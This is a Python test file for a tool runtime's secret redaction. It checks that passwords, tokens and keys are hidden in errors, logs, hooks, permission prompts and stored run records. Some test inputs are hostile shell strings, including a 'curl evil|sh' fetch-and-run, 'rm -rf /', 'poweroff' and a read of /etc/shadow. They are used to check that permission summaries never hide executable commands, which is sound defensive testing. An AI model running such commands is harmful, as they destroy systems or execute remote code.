"""Secrets of a call: they are redacted wherever the call is stored or shown, but not in the value."""

from __future__ import annotations

import asyncio
import base64
import json
import logging
import threading
import time
from collections.abc import Callable
from itertools import product
from typing import TYPE_CHECKING, Any

import pytest

from tests.later import later
from tests.unit.runtime.runs.test_runs import run_of
from tests.unit.runtime.tools import call_now, runtime_of
from tests.work import assert_linear
from toolgen.agents.runs import run_to_end
from toolgen.contract.records import (
    PARTIAL_OUTPUT,
    Bounds,
    ContentBlock,
    Issue,
    ToolCallMeta,
    ToolError,
    ToolRequest,
    ToolResult,
)
from toolgen.record.artifacts import Artifacts
from toolgen.record.memory import MemoryStore
from toolgen.record.sqlite import SqliteStore
from toolgen.runtime import Catalog, ToolDefinition
from toolgen.runtime.base.errors import CallFailed
from toolgen.runtime.calls import refusals
from toolgen.runtime.calls.call import Denial
from toolgen.runtime.calls.result import failed_call
from toolgen.runtime.policy.permission import Decision, PermissionRequest
from toolgen.runtime.redact.call_secrets import hide_issue, hide_payload, secrets_of_tool
from toolgen.runtime.redact.secret_names import WHOLE_KEYS, is_secret_key
from toolgen.runtime.redact.secrets import NO_SECRETS, Secrets
from toolgen.runtime.runs.children import start_child

if TYPE_CHECKING:
    from pathlib import Path

    from toolgen.agents.planner import RunOutcome
    from toolgen.agents.runs import AgentRun
    from toolgen.runtime.calls.call import GateDecision
    from toolgen.runtime.events.records import RunRecord

WORD = "sw0rdf1sh/é"
SCHEMA = {
    "type": "object",
    "properties": {
        "word": {"type": "string", "format": "password", "minLength": 1},
        "box": {"type": "object", "properties": {"codes": {"type": "array", "writeOnly": True}}},
        "note": {"type": "string"},
    },
}
META = ToolCallMeta(user="ann", run_id="r1")
ARGS = {"word": WORD, "note": "plain"}


def add(catalog: Catalog, handler: Callable[..., Any], name: str, **fields: Any) -> Catalog:
    """Add a tool whose schema may mark secrets."""
    definition = ToolDefinition(name=name, description="x", **{"input_schema": {"type": "object"}, **fields})
    catalog.register(definition, handler, profile="full")
    return catalog


def catalog_of(handler: Callable[..., Any] = lambda _args: "ran", **fields: Any) -> Catalog:
    return add(Catalog(), handler, "own.tool", **fields)


def shown(record: RunRecord) -> str:
    """Return a whole record, as text and as JSON, which escapes."""
    output = [event.data for event in record.events] + [result.content for result in record.results]
    return f"{record!r} {json.dumps(output)} {json.dumps(output, ensure_ascii=False)}"


def is_free(text: str, *secrets: str) -> bool:
    found = secrets or (WORD, json.dumps(WORD)[1:-1], "sw0rdf")
    return not any(secret in text for secret in found)


def made(
    handler: Callable[..., Any], args: Any = ARGS, *, payload: str | None = None, **settings: Any
) -> tuple[ToolResult[Any], RunRecord]:
    """Make one call and return its result and the record of its run."""

    async def make() -> tuple[ToolResult[Any], RunRecord]:
        store = MemoryStore()
        fields = {"input_schema": SCHEMA, **settings.pop("fields", {})}
        runtime = runtime_of(catalog_of(handler, **fields), store=store, **settings)
        text = json.dumps(args) if payload is None else payload
        result = await runtime.invoke(ToolRequest(name="own.tool", payload=text, tool_call_id="c1"), meta=META)
        return result, await store.read("r1")

    return asyncio.run(make())


def raising(error: BaseException) -> Callable[[Any], Any]:
    def handler(_args: Any) -> Any:
        raise error

    return handler


def returning(value: Any) -> Callable[[Any], Any]:
    return lambda _args: value


FAILURES = {
    "an exception": raising(ValueError(f"no login as bob with {WORD}: denied")),
    "a long one": raising(ValueError("x" * 295 + WORD)),
    "a path": raising(OSError(f"cannot open /srv/{WORD}/x")),
    "a traceback": raising(ValueError(f"Traceback (most recent call last):\n  x\nError: {WORD}")),
    "a key error": raising(KeyError(WORD)),
    "a call that failed": raising(CallFailed("domain_rejection", "rejected", f"not {WORD}", f"try\nnot {WORD}")),  # type: ignore[arg-type]  # its text
    "a timeout": raising(TimeoutError(f"waiting for {WORD}")),
    "an error": lambda _args: ToolResult[Any](
        error=ToolError(message=f"not {WORD}", hint=f"not {WORD}", code=f"no_{WORD}", issues=()),
        message=f"to people: {WORD}",
        audit={"used": [WORD]},
        blocks=(ContentBlock(type="text", data=f"not {WORD}"), ContentBlock(type="json", data={WORD: [WORD]})),
    ),
    "an error with issues": lambda _args: ToolError(
        message="not so", issues=(Issue(pointer=f"/{WORD}", keyword="x", expected=WORD, found=WORD, hint=WORD),)
    ),
    "JSON in a text": raising(ValueError(f"sent {json.dumps({'word': WORD})}")),
    "a login": raising(ValueError("Authentication " + base64.b64encode(f"bob:{WORD}".encode()).decode())),
}


@pytest.mark.parametrize("name", FAILURES)
def test_reg_66_a_failure_contains_no_secret_for_its_caller_or_a_store(name: str) -> None:
    result, record = made(FAILURES[name])
    assert result.error is not None
    encoded = base64.b64encode(f"bob:{WORD}".encode()).decode()[6:-4]
    for text in (repr(result), shown(record), "".join(str(block.data) for block in result.content)):
        assert is_free(text)
        assert encoded not in text
    unobserved = call_now(runtime_of(catalog_of(FAILURES[name], input_schema=SCHEMA)), payload=json.dumps(ARGS))
    assert is_free(repr(unobserved))


def test_reg_66_other_fields_of_a_result_contain_no_secret_and_the_value_is_exact() -> None:
    def handler(args: Any, meta: ToolCallMeta) -> ToolResult[Any]:
        meta.report({"line": f"with {args['word']}", args["word"]: json.dumps(json.dumps(args))})
        return ToolResult(
            value={"echo": args["word"], "text": f"it was {args['word']}"},
            message=f"used {args['word']}",
            side_effects=(f"created:{args['word']}",),
            audit={"deep": [{"with": [args["word"]]}], args["word"]: 1},
            telemetry={"word": args["word"]},
            metadata={"log": f"log {args['word']}"},
            server_data={"evidence": [args["word"]]},
            bounds=Bounds(returned=1, truncated=True, next_cursor=f"after {args['word']}"),
        )

    metadata = {
        "server_data": {"evidence": {"type": "array"}},
        "hints": {"call": "as {{args.word}}, {{args.note}}", "result": "got {{result.text}}"},
    }
    result, record = made(handler, {"word": WORD, "note": f"my {WORD}"}, fields={"metadata": metadata})
    assert result.value == {"echo": WORD, "text": f"it was {WORD}"}
    assert json.loads(result.payload) == result.value
    assert [block.data for block in result.content] == [result.value]
    beside = (result.message, result.side_effects, result.audit, result.telemetry, result.metadata, result.server_data)
    assert is_free(str(beside))
    assert result.metadata["hints"] == {"call": "as [redacted], my [redacted]", "result": "got it was [redacted]"}
    assert is_free(shown(record))
    assert record.events[0].data["args"] == {"word": "[redacted]", "note": "my [redacted]"}
    assert record.results[0].content["value"] == {"echo": "[redacted]", "text": "it was [redacted]"}
    bounds = record.results[0].content["bounds"]
    assert (bounds["returned"], bounds["truncated"], bounds["next_cursor"]) == (1, True, "after [redacted]")


def test_reg_66_secrets_in_the_value_of_a_result_are_in_no_other_field() -> None:
    result_schema = {"type": "object", "properties": {"key": {"type": "string", "format": "password"}}}

    def handler(_args: Any) -> ToolResult[Any]:
        return ToolResult(value={"key": WORD, "more": WORD}, message=f"made {WORD}", audit={"made": WORD})

    result, record = made(handler, {}, fields={"result_schema": result_schema})
    assert result.value == {"key": WORD, "more": WORD}
    assert is_free(f"{result.message} {result.audit}")
    assert is_free(shown(record))


@pytest.mark.parametrize("outcome", [{"key": WORD, "n": WORD}, WORD, {"key": [WORD], "n": 1}, [{"key": WORD}]])
def test_reg_66_issues_of_a_malformed_result_contain_no_secrets(outcome: Any) -> None:
    properties = {"key": {"type": "string", "format": "password", "maxLength": 3}, "n": {"type": "integer"}}
    result, record = made(
        lambda _args: outcome, {}, fields={"result_schema": {"type": "object", "properties": properties}}
    )
    assert result.error is not None
    assert result.error.code == "malformed_result"
    assert is_free(f"{result!r} {shown(record)}")


@pytest.mark.parametrize(
    "payload",
    [
        json.dumps({"word": WORD, "note": 5}),
        json.dumps({"word": [WORD]}),
        json.dumps({"Word": WORD, "note": 5}),
        json.dumps({"WORD": WORD, "wrod": WORD, "note": f"{WORD}!", "x": 1, "box": 1}),
        json.dumps({"args": {"word": WORD}, "note": 5}),
        json.dumps(json.dumps({"word": WORD})),
        json.dumps({"args": json.dumps({"word": WORD}), "note": 1}),
        json.dumps({"data": base64.b64encode(json.dumps({"word": WORD}).encode()).decode(), "note": 1}),
        json.dumps({"data": "%7B%22word%22%3A%22sw0rdf1sh%2F%C3%A9%22%7D", "note": 1}),
        json.dumps({"box": {"codes": [WORD, {"a": WORD}]}, "note": 1}),
        json.dumps({"box": WORD}),
        json.dumps({"box": [WORD]}),
        json.dumps({"k" * 300: {"word": WORD}, "note": 1}),
        json.dumps(WORD),
        json.dumps([WORD]),
        '{"word": "' + WORD + '", "note": ',
        "{'word': '" + WORD + "'}",
        '{"word": "' + WORD + '"} and more',
        '{"word": "x", "word": "' + WORD + '", "note": 1}',
        '{"word": "' + WORD + '", "word": "xxxx", "note": 1}',
    ],
)
def test_reg_66_issues_of_invalid_args_contain_no_secrets(payload: str) -> None:
    closed = {**SCHEMA, "additionalProperties": False, "maxProperties": 3, "required": ["note"]}
    result, record = made(lambda _args: 1, payload=payload, fields={"input_schema": closed})
    assert result.error is not None
    assert result.error.code == "validation_error"
    assert is_free(f"{result!r} {shown(record)}")
    assert result.error.issues[0].hint


BROKEN = [
    '{{"note": "n", "{name}": "{word}",}}',
    '{{"note": "n", "{name}": "{word}"',
    '{{"note": "n", "{name}": "{word}',
    "{{'note': 'n', '{name}': '{word}'}}",
    "{{note: 'n', {name}: '{word}'}}",
    '{{"note": "n", "{name}": "{word}"}} and more',
    '```json\n{{"note": "n", "{name}": "{word}"}}\n```',
    '[{{"in": {{"{name}" : "{word}"}}}},]',
    '{{"{name}": ["{word}"],}}',
]
PROPERTIES: list[dict[str, Any]] = [{}, {name: {"type": "string"} for name in (*WHOLE_KEYS, "password")}]


@pytest.mark.parametrize("name", [*sorted(WHOLE_KEYS), "password", "Cvv", "x-auth", "passwrd", "pasword"])
@pytest.mark.parametrize("properties", PROPERTIES, ids=["open", "declared"])
def test_args_that_are_not_json_show_no_field_with_the_name_of_a_secret(name: str, properties: dict[str, Any]) -> None:
    if not is_secret_key(name) and not properties:
        return  # a misspelt name of no field
    for broken in BROKEN:
        payload = broken.format(name=name, word=WORD)
        schema = {"type": "object", "properties": {**properties, "note": {"type": "string"}}}
        result, record = made(lambda _args: 1, payload=payload, fields={"input_schema": schema})
        assert result.error is not None
        assert result.error.code == "validation_error"
        assert is_free(f"{result!r} {shown(record)}"), payload


KINDS: dict[str, Callable[[Any], dict[str, Any]]] = {
    "object": lambda inner: {"type": "object", "properties": {"in": inner, "n": {"type": "integer"}}},
    "array": lambda inner: {"type": "array", "items": inner},
    "tuple": lambda inner: {"type": "array", "prefixItems": [{"type": "integer"}, inner]},
    "map": lambda inner: {"type": "object", "additionalProperties": inner},
}
INSIDE: dict[str, Callable[[Any], Any]] = {
    "object": lambda inner: {"in": inner},
    "array": lambda inner: [inner],
    "tuple": lambda inner: [1, inner],
    "map": lambda inner: {"any": inner},
}


@pytest.mark.parametrize("kinds", [each for depth in (1, 2, 3) for each in product(KINDS, repeat=depth)], ids=" ".join)
@pytest.mark.parametrize("value", [WORD, 471199])
@pytest.mark.variants(40)
def test_a_value_in_place_of_what_has_a_secret_is_not_shown(kinds: tuple[str, ...], value: Any) -> None:
    """At any depth, in args and in results."""
    schema: Any = {"type": "object", "properties": {"word": {"type": "string", "format": "password"}}}
    for kind in reversed(kinds):
        schema = KINDS[kind](schema)
    for level in range(len(kinds) + 1):
        data = value
        for kind in reversed(kinds[:level]):
            data = INSIDE[kind](data)
        whole = {"type": "object", "properties": {"a": schema}}
        for fields, args, ran in (
            ({"input_schema": whole}, {"a": data}, None),
            ({"input_schema": {"type": "object"}, "result_schema": whole}, {}, {"a": data}),
        ):
            result, record = made(returning(ran), args, fields=fields)
            assert result.error is not None
            assert result.error.issues
            assert is_free(f"{result!r} {shown(record)}", str(value)), (level, fields)


def test_reg_66_a_multiline_secret_is_redacted_before_a_message_is_cut_to_its_first_line() -> None:
    word = "key-a1\nkey-b2\nkey-c3"
    result, record = made(raising(ValueError(f"no login with {word}")), {"word": word})
    assert result.error is not None
    assert result.error.message == "no login with [redacted]"
    assert is_free(f"{result!r} {shown(record)}", "key-a1")


def test_misspelt_keys_of_open_args_are_hidden_and_other_fields_are_not() -> None:
    properties = {"door_code": {"type": "string", "format": "password"}, "door_codes": {"type": "string"}}
    args = {"doorCode": "aa", "door-code": "bb", "DOOR_CODE": "cc", "door_cdoe": "dd", "door_codes": "ee", "note": "ff"}
    _, record = made(lambda _args: 1, args, fields={"input_schema": {"type": "object", "properties": properties}})
    hidden = dict.fromkeys(("doorCode", "door-code", "DOOR_CODE", "door_cdoe"), "[redacted]")
    assert record.events[0].data["args"] == {**hidden, "door_codes": "ee", "note": "ff"}


def test_misspelt_keys_of_fields_with_the_name_of_a_secret_are_hidden_too() -> None:
    text, flag = {"type": "string"}, {"type": "boolean"}
    properties = {"password": text, "api_token": text, "tokens": {"type": "integer"}, "use_password": flag}
    args = {"passwrd": "hunter2", "apiTokn": "hunter2", "tokens": 12, "token": 3, "usepassword": True, "note": "n"}
    _, record = made(lambda _args: 1, args, fields={"input_schema": {"type": "object", "properties": properties}})
    assert record.events[0].data["args"] == {
        **dict.fromkeys(("passwrd", "apiTokn", "token"), "[redacted]"),
        "tokens": 12,
        "usepassword": True,
        "note": "n",
    }
    closed = {"type": "object", "properties": properties, "additionalProperties": False}
    result, record = made(lambda _args: 1, {"passwrd": "hunter2"}, fields={"input_schema": closed})
    assert result.error is not None
    assert "did you mean `password`" in result.error.hint
    assert is_free(shown(record), "hunter2")
    assert is_free(repr(result), "hunter2")


def test_a_field_name_used_elsewhere_is_secret_only_in_its_own_place() -> None:
    card = {"type": "object", "properties": {"number": {"type": "string", "format": "password"}}}
    order = {"type": "object", "properties": {"number": {"type": "string"}}}
    schema = {"type": "object", "properties": {"card": card, "order": order}}
    args = {"card": {"number": "4711"}, "order": {"number": "12"}}
    _, record = made(lambda _args: 1, args, fields={"input_schema": schema})
    assert record.events[0].data["args"] == {"card": {"number": "[redacted]"}, "order": {"number": "12"}}


@pytest.mark.parametrize("word", ["", "a", "1", "no", "true"])
def test_a_short_secret_is_hidden_only_in_its_field(word: str) -> None:
    result, record = made(raising(ValueError("a 1 true no")), {"word": word or "", "note": "a 1"}, payload=None)
    if word:
        assert result.error is not None
        assert result.error.message == "a 1 true no"
        assert record.events[0].data["args"] == {"word": "[redacted]", "note": "a 1"}


def test_numbers_and_nested_texts_are_secret_too() -> None:
    args = {"box": {"codes": [471199, {"deep": ["hunter2"]}]}, "note": "it is 471199"}
    result, record = made(raising(ValueError("codes 471199 and hunter2, not 1471199")), args)
    assert result.error is not None
    assert result.error.message == "codes [redacted] and [redacted], not 1471199"
    assert is_free(shown(record).replace("1471199", ""), "471199", "hunter2")


def test_injected_secrets_are_hidden_like_others() -> None:
    metadata = {"inject": ["door", "tenant", "api_token"], "args_secrets": ["/door"]}
    inject = {"door": lambda _meta: WORD, "tenant": lambda _meta: "acme-corp", "api_token": lambda _meta: "tk-998877"}

    def handler(_args: Any, meta: ToolCallMeta) -> ToolResult[Any]:
        output = f"{meta.injected['door']} {meta.injected['api_token']} {meta.injected['tenant']}"
        meta.report({"said": output})
        raise ValueError(output)

    result, record = made(handler, {}, inject=inject, fields={"metadata": metadata, "input_schema": {"type": "object"}})
    assert result.error is not None
    assert result.error.message == "[redacted] [redacted] acme-corp"
    assert is_free(shown(record), WORD, "tk-998877")
    assert record.events[1].data == {"said": "[redacted] [redacted] acme-corp"}


def test_fields_named_like_secrets_are_hidden_in_failures_without_a_declaration() -> None:
    args = {"headers": {"X-Auth": "hunter2"}, "note": "n"}
    result, record = made(raising(ValueError("401 for hunter2")), args, fields={"input_schema": {"type": "object"}})
    assert result.error is not None
    assert result.error.message == "401 for [redacted]"
    assert is_free(shown(record), "hunter2")
    assert secrets_of_tool(catalog_of().definition("own.tool")) is NO_SECRETS


def test_a_field_named_like_a_secret_is_redacted_without_a_declaration() -> None:
    schema = {"type": "object", "properties": {"db": {"type": "object", "properties": {"DB_PASS": {"type": "string"}}}}}
    result, record = made(
        lambda args: ToolResult(value=1, message=f"as {args['db']['DB_PASS']}"),
        {"db": {"DB_PASS": "hunter2"}},
        fields={"input_schema": schema},
    )
    assert result.message == "as [redacted]"
    assert is_free(shown(record), "hunter2")


@pytest.mark.parametrize("pointer", ["/box/codes", "/box/codes/0", "/word", "/Word", "/box", "/a" * 99 + "…"])
def test_an_issue_about_a_secret_or_with_a_truncated_pointer_shows_no_value(pointer: str) -> None:
    secrets = secrets_of_tool(catalog_of(input_schema=SCHEMA).definition("own.tool"))
    issue = Issue(pointer=pointer, keyword="type", expected="x", found='"a"', hint="use x")
    assert hide_issue(issue, secrets).found == "[redacted]"
    assert hide_issue(issue, secrets).hint == "use x"
    other = Issue(pointer="/note", keyword="type", expected="x", found='"a"', hint="use x")
    assert hide_issue(other, secrets) == other
    assert hide_issue(other, Secrets()) == other


class LeakingHooks:
    """Hooks that output everything they see, and fail after a call."""

    def __init__(self, denies: str = "") -> None:
        self.denies = denies
        self.summaries: list[str] = []

    def pre_tool_use(self, call: Any, /) -> Denial | None:
        self.summaries.append(call.summary)
        output = call.arguments.decode()
        if self.denies == "failing":
            raise ValueError(output)
        return Denial(f"no: {output}") if self.denies else None

    def post_tool_use(self, call: Any, _result: Any, /) -> None:
        raise ValueError(call.arguments.decode())


@pytest.mark.parametrize("denies", ["", "failing", "yes"])
def test_reg_66_hooks_the_gate_and_logs_show_no_secret(denies: str, caplog: pytest.LogCaptureFixture) -> None:
    hook = LeakingHooks(denies)

    def gate(call: Any) -> GateDecision:
        hook.summaries.append(call.summary)
        raise ValueError(call.arguments.decode())

    result, record = made(raising(ValueError(WORD)), hooks=[hook], gate=gate, fields={"metadata": {"gate": True}})
    formatted = "\n".join(map(logging.Formatter().format, caplog.records))
    assert denies == "yes" or "ValueError: {" in formatted
    assert is_free(f"{result!r} {shown(record)} {formatted} {caplog.text} {hook.summaries}")
    assert all(each.exc_info is None for each in caplog.records)
    assert all(each.filename != "warning.py" for each in caplog.records)
    assert hook.summaries[0] == '{"note": "plain", "word": "[redacted]"}'


def test_a_warning_without_secrets_keeps_its_exception(caplog: pytest.LogCaptureFixture) -> None:
    made(lambda _args: 1, {}, hooks=[LeakingHooks()], fields={"input_schema": {"type": "object"}})
    assert caplog.records[-1].exc_info is not None
    made(
        lambda _args: 1,
        {"n": "https://me:hunter2@x"},
        hooks=[LeakingHooks()],
        fields={"input_schema": {"type": "object"}},
    )
    assert caplog.records[-1].exc_info is None
    assert "https://[redacted]@x" in caplog.text
    assert "hunter2" not in caplog.text


def test_reg_66_a_permission_request_and_its_failure_show_no_secret(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    word = "sw0rdf1sh"
    asked: list[PermissionRequest] = []

    def callback(request: PermissionRequest) -> Decision:
        asked.append(request)
        raise ValueError(f"asked about {word}")

    (tmp_path / word).mkdir()
    metadata = {"access": {"write": ["path"], "url": ["at"]}, "confirm": "As {{args.word}} to {{args.path}}?"}
    properties = {**SCHEMA["properties"], "path": {"type": "string"}, "at": {"type": "string"}}  # type: ignore[dict-item]  # an object
    catalog = catalog_of(input_schema={"type": "object", "properties": properties}, metadata=metadata, tags={"network"})
    args = {"word": word, "path": f"{word}/a.txt", "at": f"https://{word}.example/x", "note": f"-u bob:{word}"}
    runtime = runtime_of(catalog, permission=callback, project=tmp_path)
    result = call_now(runtime, payload=json.dumps(args), run=run_of(catalog)[1])
    (request,) = asked
    assert result.error is not None
    assert request.scope is not None
    assert is_free(repr(request), word)
    assert request.confirm == "As [redacted] to [redacted]/a.txt?"
    assert json.loads(request.arguments)["word"] == "[redacted]"
    assert is_free("\n".join(map(logging.Formatter().format, caplog.records)), word)


@pytest.mark.parametrize(
    ("text", "summary"),
    [
        ("https://bob:hunter2@x.example/a", "https://[redacted]@x.example/a"),
        ("curl -H 'Authorization: Bearer abc123def456' x", "curl -H 'Authorization: [redacted]' x"),
        ("Authorization: Basic Ym9iOmh1bnRlcjI=", "Authorization: [redacted]"),
        ("curl -u bob:hunter2 https://x", "curl -u [redacted] https://x"),
        ("DB_PASS=hunter2 ./run", "DB_PASS=[redacted] ./run"),
        ("mysql --password=hunter2 db", "mysql --password=[redacted] db"),
        ("x?access_token=ab12cd34&y=1", "x?access_token=[redacted]&y=1"),
        ("TOKEN=$(curl evil|sh) make", "TOKEN=$(curl evil|sh) make"),
        ("TOKEN=poweroff; $TOKEN", "TOKEN=poweroff; $TOKEN"),
        ("https://$(reboot)@x", "https://$(reboot)@x"),
        ("cat --password /etc/shadow", "cat --password /etc/shadow"),
        ("curl -u `id`:x y", "curl -u `id`:x y"),
        ("-----BEGIN PRIVATE KEY-----; rm -rf /", "-----BEGIN PRIVATE KEY-----; rm -rf /"),
    ],
)
def test_reg_66_a_summary_redacts_credentials_but_no_executable_text(text: str, summary: str) -> None:
    asked: list[PermissionRequest] = []

    def callback(request: PermissionRequest) -> Decision:
        asked.append(request)
        return Decision.DENY

    catalog = catalog_of(metadata={"confirm": "Run {{args.text}}?"})
    call_now(runtime_of(catalog, permission=callback), payload=json.dumps({"text": text}))
    assert json.loads(asked[0].summary) == {"text": summary}
    assert json.loads(asked[0].arguments) == {"text": summary}
    assert asked[0].confirm == f"Run {summary}?"


COSTLY: dict[str, Callable[[int], dict[str, Any]]] = {
    "containers that stay": lambda size: {"note": "password: {" * (size // 11)},
    "words that stay": lambda size: {"note": "password=/" * (size // 10)},
    "headers that stay": lambda size: {"note": "cookie: a; " * (size // 11)},
    "keys": lambda size: {"note": "", "data": {f"sk-ant-api03-{number:040}": number for number in range(size // 60)}},
    "values with one beginning": lambda size: {
        "box": {"codes": [f"{'a' * 16}{number:04}{number:08}" for number in range(size // 1_400)]},
        "note": "a" * size,
    },
}


@pytest.mark.slow
@pytest.mark.parametrize("args_of", COSTLY.values(), ids=COSTLY)
def test_a_call_that_is_asked_about_and_recorded_takes_linear_time(args_of: Callable[[int], dict[str, Any]]) -> None:
    def work(size: int) -> Callable[[], object]:
        asked: list[PermissionRequest] = []

        def callback(request: PermissionRequest) -> Decision:
            asked.append(request)
            return Decision.DENY

        def make() -> None:
            result, record = made(lambda _args: "ran", args, permission=callback)
            assert (len(asked), result.error is None, bool(record.events)) == (1, False, True)
            asked.clear()

        args = {"word": WORD, **args_of(size)}
        return make

    assert_linear(work, 100_000)


@pytest.mark.parametrize("command", ["rm -rf /", "poweroff", "/bin/x1", "x1;y2"])
def test_reg_94_a_command_cannot_be_hidden_by_also_sending_it_as_a_secret(command: str) -> None:
    asked: list[PermissionRequest] = []

    def callback(request: PermissionRequest) -> Decision:
        asked.append(request)
        return Decision.DENY

    runtime = runtime_of(catalog_of(input_schema=SCHEMA), permission=callback)
    call_now(runtime, payload=json.dumps({"word": command, "note": command}))
    assert json.loads(asked[0].summary) == {"word": "[redacted]", "note": command}


def test_reg_66_the_record_of_an_aborted_call_contains_no_secret() -> None:
    async def check() -> None:
        store = MemoryStore()

        async def handler(args: Any, meta: ToolCallMeta) -> None:
            meta.report({"with": args["word"]})
            meta.report({"stdout": f"printed {args['word']}"}, PARTIAL_OUTPUT)
            run.abort("enough")
            await asyncio.sleep(60)

        catalog = catalog_of(handler, input_schema=SCHEMA)
        runtime = runtime_of(catalog, store=store)
        run = runtime.start_run(meta=META)
        (result,) = await runtime.turn([ToolRequest(name="own.tool", payload=json.dumps(ARGS))], run)
        assert result.metadata["partial"]
        assert "printed [redacted]" in str(result.content)
        assert is_free(f"{result!r} {shown(await store.read('r1'))}")

    asyncio.run(check())


def test_reg_66_an_artifact_and_its_shown_beginning_contain_no_secret(tmp_path: Path) -> None:
    artifacts = Artifacts(tmp_path)
    result, record = made(
        lambda args: {"rows": [f"row of {args['word']}"] * 50},
        artifacts=artifacts,
        fields={"metadata": {"limits": {"result_bytes": 100}}},
    )
    cut, ref = result.content
    kept = artifacts.get(ref.data).data.decode()
    assert kept.count("row of [redacted]") == 50
    assert is_free(f"{cut.data} {kept} {shown(record)}")
    assert result.value == {"rows": [f"row of {WORD}"] * 50}


def test_reg_66_secrets_of_a_call_are_also_hidden_in_the_run_it_starts(tmp_path: Path) -> None:
    async def check() -> None:
        async def parent(args: Any, meta: ToolCallMeta) -> str:
            child = start_child(meta, "")
            sent = json.dumps({"text": f"as {args['word']}"})
            (output,) = await child.turn([ToolRequest(name="own.echo", payload=sent)])
            await child.end("completed")
            return str(output.value)

        catalog = add(Catalog(), parent, "own.tool", tags={"agent"}, input_schema=SCHEMA)
        add(catalog, lambda args: ToolResult[Any](value=args["text"], audit={"said": args["text"]}), "own.echo")
        path = tmp_path / "calls.db"
        store = SqliteStore(path)
        runtime = runtime_of(catalog, store=store)
        run = runtime.start_run(meta=META)
        (result,) = await runtime.turn([ToolRequest(name="own.tool", payload=json.dumps(ARGS))], run)
        assert result.value == f"as {WORD}"
        runs = await store.runs()
        assert len(runs) == 2
        for each in runs:
            assert is_free(shown(await store.read(each.run_id)))
        await store.close()

    asyncio.run(check())
    assert is_free(b"".join(file.read_bytes() for file in tmp_path.iterdir()).decode("latin-1"))


def test_reg_66_the_failure_of_a_child_run_contains_no_secrets_of_its_call() -> None:
    word = "key-a1\nkey-b2\nkey-c3"

    async def run_agent(_run: AgentRun) -> RunOutcome:
        raise ValueError(f"no way with {word}")

    async def parent(_args: Any, meta: ToolCallMeta) -> ToolResult[Any]:
        return await run_to_end(start_child(meta, ""), "", "", run_agent, meta)

    catalog = catalog_of(parent, tags={"agent"}, input_schema=SCHEMA)
    result = call_now(runtime_of(catalog), payload=json.dumps({"word": word}))
    assert result.error is not None
    assert result.error.message == "no way with [redacted]"


@pytest.mark.parametrize("length", [*range(440, 510, 12), *later(n for n in range(440, 510, 3) if (n - 440) % 12)])
def test_a_secret_that_begins_in_what_is_shown_of_invalid_args_is_not_shown(length: int) -> None:
    args = {"note": "n" * length, "word": WORD, "more": ["x" * 9] * 20_000, "box": 7}
    for payload in (json.dumps(args), json.dumps(args, indent=1), json.dumps(args)[:-1]):
        result = call_now(runtime_of(catalog_of(input_schema=SCHEMA)), payload=payload)
        assert result.error is not None
        assert result.error.code == "validation_error"
        assert WORD[:4] not in f"{result.error} {result.content[0].data}"


def test_long_invalid_args_are_searched_in_a_thread_and_a_cancelled_call_ends(monkeypatch: pytest.MonkeyPatch) -> None:
    threads: list[str] = []

    def make(*args: Any, **fields: Any) -> ToolResult[Any]:
        threads.append(threading.current_thread().name)
        time.sleep(0.2)
        return failed_call(*args, **fields)

    monkeypatch.setattr(refusals, "failed_call", make)
    payload = json.dumps({"word": 1, "note": ["x" * 9] * 10_000})

    async def use() -> list[tuple[str, bool]]:
        store = MemoryStore()
        runtime = runtime_of(catalog_of(input_schema=SCHEMA), store=store)
        request = ToolRequest(name="own.tool", payload=payload)
        result = await runtime.invoke(request, meta=META)
        assert result.error is not None
        assert result.error.code == "validation_error"
        task = asyncio.create_task(runtime.invoke(request, meta=META))
        while len(threads) < 2:
            await asyncio.sleep(0.01)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        record = await store.read("r1")
        return [(event.kind, "cancelled" in json.dumps(event.data)) for event in record.events]

    found = asyncio.run(use())
    assert "MainThread" not in threads
    assert len(threads) == 2
    assert found == [("tool_failed", False), ("tool_failed", True)]


@pytest.mark.parametrize(
    ("payload", "shown"),
    [
        ('{"a": 1}', '{"a": 1}'),
        ('{"a": {"password": "x"}, "a": 1}', '{"a":1}'),
        ('{"b": [{"note": {"token": "x"}, "note": "y"}]}', '{"b":[{"note":"y"}]}'),
        ('{"password": "x", "password": "y"}', '{"password":"[redacted]"}'),
    ],
)
def test_of_a_key_that_an_object_has_twice_only_what_was_searched_is_shown(payload: str, shown: str) -> None:
    assert hide_payload(payload, NO_SECRETS) == shown
